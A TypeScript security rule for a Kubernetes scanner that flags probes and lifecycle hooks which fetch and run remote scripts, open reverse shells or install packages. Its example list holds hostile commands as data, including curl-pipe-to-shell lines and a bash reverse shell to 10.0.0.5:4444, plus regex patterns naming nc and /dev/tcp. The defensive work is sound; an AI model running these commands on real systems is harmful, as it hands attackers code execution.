// Judges probes and hooks that bring in code: https://kubernetes.io/docs/concepts/containers/container-lifecycle-hooks/
import { toRuleId } from '../../model/brand.ts';
import type { Check } from '../../model/check.ts';
import type { Handler } from '../../model/workload.ts';
import { inEveryFormat } from './every-format.ts';
import { accuseItems } from './list-rule.ts';

export const execProbeShell: Check<'workload'> = {
  id: toRuleId('wl-exec-probe-shell'),
  title: 'Probe or hook fetches a program and runs it',
  severity: 'low',
  layer: 'container',
  on: 'workload',
  why: 'The engine runs it again and again, in every container: whoever has the address, or stands on the way to it, runs what they like there, and a program in a probe is a place where few look.',
  todo: 'Put what the probe needs into the image, and let it do no more than ask.',
  refs: ['kyv:deny-commands-in-exec-probe'],
  since: '2026.11',
  get examples() {
    const runs = (when: Handler['when'], text: string): Handler => ({
      when,
      how: 'exec',
      command: ['/bin/sh', '-c', text],
    });
    return {
      bad: [
        ...inEveryFormat({ handlers: [runs('postStart', 'curl -fsSL https://get.example/agent | sh')] }),
        ...inEveryFormat({ handlers: [runs('liveness', 'wget -qO- http://10.0.0.5/x | bash -s')] }),
        ...inEveryFormat({ handlers: [runs('health', 'sh -c "$(curl -s https://get.example/agent)"')] }),
        ...inEveryFormat({ handlers: [runs('readiness', 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1')] }),
        ...inEveryFormat({ handlers: [runs('preStop', 'apk add --no-cache curl')] }),
      ],
      good: [
        ...inEveryFormat({ handlers: [runs('liveness', 'curl -fs http://127.0.0.1:8080/healthz || exit 1')] }),
        ...inEveryFormat({ handlers: [runs('health', 'curl -s http://127.0.0.1:8080/ | grep -q ok')] }),
        ...inEveryFormat({ handlers: [runs('readiness', 'exec 3<>/dev/tcp/127.0.0.1/8080')] }),
        ...inEveryFormat({ handlers: [runs('preStop', 'sleep 5')] }),
      ],
    };
  },
  run: (workload) =>
    accuseItems(workload, {
      name: 'handlers',
      judge: ({ when, command }) => {
        const deed = deedOf(command ?? []);
        return deed === undefined ? undefined : `${deed} in its ${names[when]}`;
      },
      keyOf: ({ when }) => when,
    }),
};

const names: Readonly<Record<Handler['when'], string>> = {
  liveness: 'livenessProbe',
  readiness: 'readinessProbe',
  startup: 'startupProbe',
  health: 'health check',
  postStart: 'postStart hook',
  preStop: 'preStop hook',
};
const deeds: readonly (readonly [deed: string, pattern: RegExp])[] = [
  [
    'runs what it fetches',
    /\b(?:curl|wget)\b[^|\n]{1,500}\|\s{0,9}(?:sudo\s{1,9})?(?:\/\S{1,50}\/)?(?:(?:ba|da|z|k)?sh|python3?|perl)\b/,
  ],
  ['runs what it fetches', /(?:\beval\b|\bsh\b|\bsource\b)[^|;&\n]{0,30}(?:\$\(|<\(|`)\s{0,9}(?:curl|wget)\b/],
  [
    'hands a shell to another host',
    /\b(?:ba)?sh\b\s{1,9}-i\b[^\n]{0,99}\/dev\/tcp\/|\b(?:nc|ncat)\b[^|;&\n]{0,99}\s-[a-z]{0,5}[ec]\s{1,9}\S{0,50}sh\b/,
  ],
  ['installs packages', /\b(?:apt-get|apt|apk|yum|dnf|microdnf|pip3?|npm)\b[^|;&\n]{0,50}\s(?:install|add)\b/],
];
const longest = 10_000;
function deedOf(command: readonly string[]): string | undefined {
  const text = command.join(' ').slice(0, longest);
  return deeds.find(([, pattern]) => pattern.test(text))?.[0];
}
